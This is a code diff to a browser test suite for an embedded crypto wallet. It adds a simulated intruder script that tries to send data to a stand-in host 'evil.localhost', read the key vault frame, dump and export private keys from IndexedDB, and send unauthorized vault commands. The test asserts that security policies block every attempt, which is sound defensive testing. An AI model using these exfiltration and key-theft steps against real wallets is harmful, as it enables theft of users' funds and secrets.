@@ -312,19 +312,95 @@ describe('a session of the embedded wallet', () => {
   })
 })
 
+/** What a script that got into the frame may try. Each returns the directive of the policy that stopped it, or `open`. */
+const INTRUDER = `(async () => {
+  const evil = 'http://evil.localhost:1'
+  const append = (name, given) => document.head.append(Object.assign(document.createElement(name), given))
+  const tries = {
+    fetch: () => fetch(evil, { mode: 'no-cors' }),
+    beacon: () => navigator.sendBeacon(evil, 'x'),
+    socket: () => new WebSocket('ws://evil.localhost:1'),
+    image: () => append('img', { src: evil }),
+    frame: () => append('iframe', { src: evil }),
+    form: () => {
+      append('form', { action: evil, target: '_blank', id: 'form' })
+      document.querySelector('#form').requestSubmit()
+    },
+    script: () => append('script', { src: evil }),
+    worker: () => new Worker(URL.createObjectURL(new Blob(['1']))),
+    markup: () => document.body.insertAdjacentHTML('beforeend', '<b>1</b>'),
+    style: () => append('style', { textContent: 'body { display: none }' }),
+    base: () => append('base', { href: evil }),
+  }
+  const outcomes = {}
+  for (const [name, attempt] of Object.entries(tries)) {
+    const stopped = new Promise((resolve) => {
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective), { once: true })
+      setTimeout(() => resolve('open'), 1_000)
+    })
+    await Promise.resolve().then(attempt).catch(() => undefined)
+    outcomes[name] = await stopped
+  }
+  const vault = document.querySelector('iframe[title="Keys"]')
+  const refused = []
+  for (const read of [() => vault.contentWindow.document, () => vault.contentWindow.localStorage])
+    try { read(); refused.push('open') } catch (error) { refused.push(error.name) }
+  const kept = []
+  const until = (request) => new Promise((resolve) => { request.onsuccess = () => resolve(request.result) })
+  for (const { name } of await indexedDB.databases()) {
+    const database = await until(indexedDB.open(name))
+    for (const store of database.objectStoreNames)
+      kept.push(...(await until(database.transaction(store).objectStore(store).getAll())))
+    database.close()
+  }
+  const secrets = kept.map((value) => value.privateKey).filter((key) => key !== undefined)
+  const exported = await Promise.all(secrets.map((key) => crypto.subtle.exportKey('jwk', key).then(() => 'open', ({ name }) => name)))
+  // Operations of the vault, without the port that only the page has.
+  const answers = []
+  const { port1, port2 } = new MessageChannel()
+  port1.onmessage = ({ data }) => answers.push(data)
+  addEventListener('message', ({ data }) => answers.push(data))
+  const hello = { type: '@latchkey/VAULT_HELLO', version: 1, projectId: 'shop', vaultNonce: crypto.randomUUID(), frameNonce: crypto.randomUUID() }
+  vault.contentWindow.postMessage(hello, '*', [port2])
+  for (const op of ['STATUS', 'SIGN', 'UNLOCK', 'CREATE', 'RECOVER', 'EXPORT']) {
+    vault.contentWindow.postMessage({ id: crypto.randomUUID(), op }, '*')
+    port1.postMessage({ id: crypto.randomUUID(), op })
+  }
+  await new Promise((resolve) => setTimeout(resolve, 500))
+  return { outcomes, refused, exported, answers }
+})()`
+
+describe('a script that got into the frame', () => {
+  it('X82: reaches no key, no vault without its port, and no other host', async () => {
+    const { page } = await signedIn()
+    const frame = page.frames().find((each) => each.url().startsWith(world().frame))
+    expect(await frame?.evaluate(INTRUDER)).toEqual({
+      outcomes: {
+        ...{ fetch: 'connect-src', beacon: 'connect-src', socket: 'connect-src', image: 'img-src', frame: 'frame-src' },
+        ...{ form: 'form-action', script: 'require-trusted-types-for', worker: 'require-trusted-types-for' },
+        ...{ markup: 'require-trusted-types-for', style: 'style-src-elem', base: 'base-uri' },
+      },
+      refused: ['SecurityError', 'SecurityError'],
+      exported: ['InvalidAccessError'],
+      answers: [],
+    })
+  })
+})
+
 /** How the card looks: the parts that a person decides by. */
 const readLook = (page: Page) =>
   page
     .frameLocator('iframe')
     .getByRole('dialog')
-    .evaluate((card) =>
-      ['.lead-text', '.site-origin', '.card-approve', '.card-reject'].map((part) => {
+    .evaluate(async (card) => {
+      await Promise.all(document.getAnimations().map(({ finished }) => finished.catch(() => undefined)))
+      return ['.lead-text', '.site-origin', '.card-approve', '.card-reject'].map((part) => {
         const element = card.querySelector(part)
         if (element === null) return part
         const { color, backgroundColor, fontSize, opacity, visibility, display } = getComputedStyle(element)
         return { part, color, backgroundColor, fontSize, opacity, visibility, display }
-      }),
-    )
+      })
+    })
 
 describe('a page that describes itself', () => {
   it('X32: gets no name that belongs to another site: the card shows its origin', async () => {
@@ -377,7 +453,8 @@ describe('a page that describes itself', () => {
         .poll(() => page.frameLocator('iframe').getByRole('button', { name: 'Approve' }).isEnabled())
         .toBe(true)
       looks.push(await readLook(page))
-      await press(page, 'Reject')
+      // By a key: a button looks different under the pointer.
+      await page.frameLocator('iframe').getByRole('button', { name: 'Reject' }).press('Enter')
       await answer()
     }
     expect(looks[1]).toEqual(looks[0])
